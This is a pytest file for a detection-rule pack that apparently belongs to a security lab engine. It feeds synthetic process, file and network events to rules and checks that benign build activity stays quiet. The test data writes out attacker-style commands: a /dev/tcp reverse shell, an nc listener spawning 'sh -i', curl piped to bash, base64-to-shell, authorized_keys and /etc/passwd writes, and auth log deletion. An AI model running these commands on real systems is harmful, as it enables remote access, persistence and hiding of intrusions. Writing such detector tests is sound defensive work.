"""The starter pack against small stories: each rule finds its own, and ordinary work is left alone."""

from __future__ import annotations

from typing import Any

import pytest

from kestrel_lab.engine import load_pack
from kestrel_lab.schema.resources import resource
from tests.engine.support import run
from tests.support.epochs import source

PACK = load_pack([resource("rules")])


def exec_(
    name: str, *args: str, pid: int = 50, ppid: int = 10, filename: str | None = None, cwd: str = "/home/u"
) -> dict[str, Any]:
    executable = f"/usr/bin/{name}"
    return {"table": "process", "action": "exec", "pid": pid, "ppid": ppid, "name": name, "executable": executable,
            "args": [name, *args], "working_directory": cwd, "process.Ext.filename": filename or executable,
            "start_ns": pid}  # fmt: skip


def end(pid: int) -> dict[str, Any]:
    return {"table": "process", "action": "end", "pid": pid, "process.exit_code": 0}


def file(action: str, path: str, before: str | None = None, pid: int = 50) -> dict[str, Any]:
    return {"table": "file", "action": action, "pid": pid, "file.path": path, "file.Ext.original.path": before}


def connect(pid: int, action: str = "connection_attempted") -> dict[str, Any]:
    return {"table": "network", "action": action, "pid": pid, "destination.ip": "127.0.0.1", "destination.port": 4444}


STORIES: dict[str, list[dict[str, Any]]] = {
    "execution-from-temporary-folder": [exec_("sh", "./run.sh", filename="./run.sh", cwd="/tmp/x")],
    "dropped-file-executed": [
        exec_("python3"),
        file("creation", "/tmp/d/update.sh"),
        exec_("sh", "/tmp/d/update.sh", pid=51, filename="/tmp/d/update.sh"),
    ],
    "executed-file-deleted": [
        exec_("sh", "/tmp/d/update.sh", filename="/tmp/d/update.sh"),
        file("deletion", "/tmp/d/update.sh"),
    ],
    "shell-dev-tcp": [exec_("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/4444; echo hello >&3")],
    "shell-network-connection": [exec_("bash"), connect(50)],
    "shell-command-connects-out": [exec_("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/4444"), connect(50), end(50)],
    "accepted-connection-starts-shell": [
        exec_("nc", "-l", pid=60),
        connect(60, "connection_accepted"),
        exec_("sh", "-i", pid=61, ppid=60),
    ],
    "file-renamed-to-ransom-extension": [exec_("python3"), file("rename", "/tmp/n.txt.locked", "/tmp/n.txt")],
    "base64-decoded-to-shell": [exec_("sh", "-c", "echo aWQK | base64 -d | sh")],
    "download-piped-to-shell": [exec_("bash", "-c", "curl -s https://example.org/x | bash")],
    "hidden-file-in-temporary-folder": [exec_("cp"), file("creation", "/dev/shm/.x")],
    "scheduled-task-or-service-written": [exec_("tee"), file("open", "/etc/cron.d/job")],
    "ssh-authorized-keys-written": [exec_("tee"), file("open", "/root/.ssh/authorized_keys")],
    "account-database-written": [exec_("tee"), file("open", "/etc/passwd")],
    "log-file-deleted": [exec_("rm"), file("deletion", "/var/log/auth.log")],
    "execution-from-descriptor": [exec_("x", filename="/proc/self/fd/3")],
}

ORDINARY = [
    exec_("bash", "-c", "make all"),
    exec_("cc1", "main.c", pid=52, ppid=50),
    file("creation", "/tmp/ccA1b2.s", pid=52),
    file("open", "/home/u/main.o", pid=52),
    file("deletion", "/tmp/ccA1b2.s", pid=52),
    file("rename", "/home/u/a.out", "/home/u/a.out.tmp", pid=52),
    end(52),
    exec_("curl", "https://example.org", pid=53, ppid=50),
    connect(53),
    connect(53, "connection_result"),
    end(53),
    exec_("sshd", pid=70),
    connect(70, "connection_accepted"),
    exec_("bash", "-l", pid=71, ppid=70),
    file("open", "/home/u/.bash_history", pid=71),
]


@pytest.mark.parametrize("rule_id", [r.id for r in PACK.rules])
def test_each_rule_finds_its_story(rule_id: str) -> None:
    assert rule_id in {a.rule_id for a in run(PACK, source(STORIES[rule_id], epoch_rows=1), "deterministic")}


def test_ordinary_work_raises_nothing() -> None:
    assert run(PACK, source(ORDINARY)) == []


def test_a_shell_that_ended_is_forgotten() -> None:
    story = [exec_("bash", "-c", "true"), end(50), connect(50)]
    assert {a.rule_id for a in run(PACK, source(story))} == {"shell-network-connection"}
